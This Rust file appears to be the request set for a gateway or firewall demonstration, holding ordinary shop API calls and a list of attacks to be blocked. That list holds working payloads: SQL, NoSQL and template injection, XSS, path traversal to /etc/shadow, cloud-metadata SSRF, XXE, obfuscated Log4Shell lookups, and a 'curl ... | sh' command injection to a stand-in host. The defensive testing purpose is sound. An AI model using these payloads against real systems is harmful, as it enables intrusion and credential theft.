//! The requests of the demonstration: what a shop's clients do all day, and one attack of each kind that a gateway
//! should know.

use std::net::{Ipv4Addr, SocketAddr};

use bytes::Bytes;
use http::header::{ACCEPT, ACCEPT_ENCODING, ACCEPT_LANGUAGE, CONTENT_TYPE, HOST, USER_AGENT};
use http::{HeaderName, Request};
use http_body_util::Full;

/// One request.
#[derive(Clone, Copy, Debug)]
pub(super) struct Scene {
    /// What it is, in the words of the output.
    pub(super) label: &'static str,
    pub(super) method: &'static str,
    /// Path and query, as sent.
    pub(super) target: &'static str,
    /// A header besides the usual ones; replaces the usual one of its name.
    header: Option<(&'static str, &'static str)>,
    /// Content type and body.
    body: Option<(&'static str, &'static str)>,
}

impl Scene {
    const fn get(label: &'static str, target: &'static str) -> Self {
        Self {
            label,
            method: "GET",
            target,
            header: None,
            body: None,
        }
    }

    const fn post(
        label: &'static str,
        target: &'static str,
        kind: &'static str,
        body: &'static str,
    ) -> Self {
        Self {
            label,
            method: "POST",
            target,
            header: None,
            body: Some((kind, body)),
        }
    }

    const fn with(mut self, name: &'static str, value: &'static str) -> Self {
        self.header = Some((name, value));
        self
    }

    /// The request as `client` sends it; `None` for a scene that is no lawful request, which a test rules out.
    pub(super) fn request(
        &self,
        target: SocketAddr,
        client: Ipv4Addr,
    ) -> Option<Request<Full<Bytes>>> {
        let mut builder = Request::builder()
            .method(self.method)
            .uri(self.target)
            .header(HOST, target.to_string())
            .header(X_FORWARDED_FOR, client.to_string())
            // What browsers always send: without it whoever claims to be one is taken for a program.
            .header(ACCEPT, "application/json, text/plain, */*")
            .header(ACCEPT_LANGUAGE, "en-GB,en;q=0.5")
            .header(ACCEPT_ENCODING, "gzip, deflate");
        if self.header.is_none_or(|(name, _)| name != "user-agent") {
            builder = builder.header(USER_AGENT, BROWSER);
        }
        if let Some((name, value)) = self.header {
            builder = builder.header(name, value);
        }
        let body = match self.body {
            Some((kind, body)) => {
                builder = builder.header(CONTENT_TYPE, kind);
                Bytes::from_static(body.as_bytes())
            }
            None => Bytes::new(),
        };
        builder.body(Full::new(body)).ok()
    }
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
const X_FORWARDED_FOR: HeaderName = HeaderName::from_static("x-forwarded-for");

/// What should pass. The first is the one that a flood repeats.
pub(super) const NORMAL: &[Scene] = &[
    Scene::get("list users", "/api/users"),
    Scene::get("one user", "/api/users/3"),
    Scene::get("another user", "/api/users/5"),
    Scene::get("search", "/api/products?search=lamp"),
    Scene::get(
        "search with paging",
        "/api/products?search=desk&page=1&sort=price",
    ),
    Scene::get("an apostrophe", "/api/products?search=children%27s+desk"),
    Scene::get(
        "words of SQL",
        "/api/products?search=select+a+chair+from+the+union+store",
    ),
    Scene::get("health check", "/health"),
    Scene::post(
        "log in",
        "/api/login",
        JSON,
        r#"{"username":"ada","password":"demo"}"#,
    ),
    Scene::post(
        "order",
        "/api/orders",
        JSON,
        r#"{"items":[{"product":1,"quantity":2},{"product":5,"quantity":10}],"note":"Ring twice, it's the 2nd door"}"#,
    ),
    Scene::post(
        "order with markdown",
        "/api/orders",
        JSON,
        r##"{"items":[{"product":6}],"note":"# Gift\n* wrap it; add a card (**no price**)"}"##,
    ),
    Scene::post(
        "feedback form",
        "/echo",
        FORM,
        "name=Fatou&text=Great+lamp+%26+fast+delivery%21",
    ),
];

/// What should be stopped.
pub(super) const ATTACKS: &[Scene] = &[
    Scene::get(
        "SQL injection",
        "/api/users?id=1%27%20UNION%20SELECT%20login,password%20FROM%20accounts--%20-",
    ),
    Scene::get(
        "SQL injection",
        "/api/products?search=lamp%27%20OR%20%271%27=%271",
    ),
    Scene::get("SQL injection, blind", "/api/users?id=3%20AND%20SLEEP(5)"),
    Scene::post(
        "SQL injection in JSON",
        "/api/login",
        JSON,
        r#"{"username":"admin' OR 1=1 -- ","password":"x"}"#,
    ),
    Scene::get(
        "cross-site scripting",
        "/api/products?search=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    ),
    Scene::get(
        "cross-site scripting",
        "/api/products?search=%3Cimg%20src=x%20onerror=alert(1)%3E",
    ),
    Scene::post(
        "cross-site scripting",
        "/echo",
        FORM,
        "name=%3Csvg%2Fonload%3Dfetch%28%27%2F%2F198.51.100.9%27%29%3E",
    ),
    Scene::get(
        "path traversal",
        "/api/products?template=../../../../etc/passwd",
    ),
    Scene::get(
        "path traversal, encoded",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    ),
    Scene::get(
        "path traversal, twice",
        "/api/products?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    ),
    Scene::get(
        "command injection",
        "/api/products?host=127.0.0.1;cat%20/etc/passwd",
    ),
    Scene::post(
        "command injection",
        "/api/orders",
        JSON,
        r#"{"items":[],"note":"$(curl http://198.51.100.9/x|sh)"}"#,
    ),
    Scene::get(
        "server-side request forgery",
        "/api/products?image=http://169.254.169.254/latest/meta-data/iam/",
    ),
    Scene::get(
        "template injection",
        "/api/products?search=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
    ),
    Scene::post(
        "NoSQL injection",
        "/api/login",
        JSON,
        r#"{"username":{"$ne":null},"password":{"$ne":null}}"#,
    ),
    Scene::post(
        "XML external entity",
        "/echo",
        "application/xml",
        r#"<?xml version="1.0"?><!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd">]><o>&f;</o>"#,
    ),
    Scene::get("Log4Shell", "/api/users").with("x-api-version", "${jndi:ldap://198.51.100.9/a}"),
    Scene::get("Log4Shell, disguised", "/api/users").with(
        "user-agent",
        "${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}",
    ),
    Scene::get("scanner", "/api/users").with("user-agent", "sqlmap/1.8 (https://sqlmap.org)"),
    Scene::get("probe for secrets", "/.env"),
    Scene::get("probe for secrets", "/.git/config"),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_scene_is_a_lawful_request() {
        for scene in NORMAL.iter().chain(ATTACKS) {
            let request = scene.request(
                "127.0.0.1:8080".parse().unwrap(),
                Ipv4Addr::new(192, 0, 2, 1),
            );
            let request = request.unwrap_or_else(|| panic!("{}", scene.label));
            assert_eq!(request.headers()["x-forwarded-for"], "192.0.2.1");
            assert_eq!(
                request.headers().get_all(USER_AGENT).iter().count(),
                1,
                "{}",
                scene.label
            );
        }
    }
}
